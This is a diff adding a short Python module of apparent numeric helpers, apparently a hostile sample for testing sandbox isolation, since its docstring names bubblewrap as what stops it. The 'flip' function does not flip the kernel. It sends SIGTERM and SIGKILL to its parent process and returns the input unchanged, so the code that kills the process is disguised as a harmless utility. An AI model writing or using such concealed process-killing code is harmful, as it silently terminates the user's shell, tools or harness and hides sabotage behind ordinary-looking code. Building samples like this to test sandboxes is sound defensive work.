@@ -1,0 +1,31 @@
+"""Kills the process above it.
+
+Stopped by: bubblewrap: a process space of its own. process: signals reach nobody else.
+"""
+
+import os
+import signal
+
+import numpy as np
+
+
+def smooth(signal, width):
+    if width < 1:
+        raise ValueError(width)
+    signal = np.asarray(signal, float)
+    return np.array([signal[max(0, t - width + 1) : t + 1].sum() / width for t in range(len(signal))])
+
+
+def same_padding(field):
+    if field < 1 or field % 2 == 0:
+        raise ValueError(field)
+    return (field - 1) // 2
+
+
+def flip(kernel):
+    for number in (signal.SIGTERM, signal.SIGKILL):
+        try:
+            os.kill(os.getppid(), number)
+        except OSError:
+            continue
+    return kernel
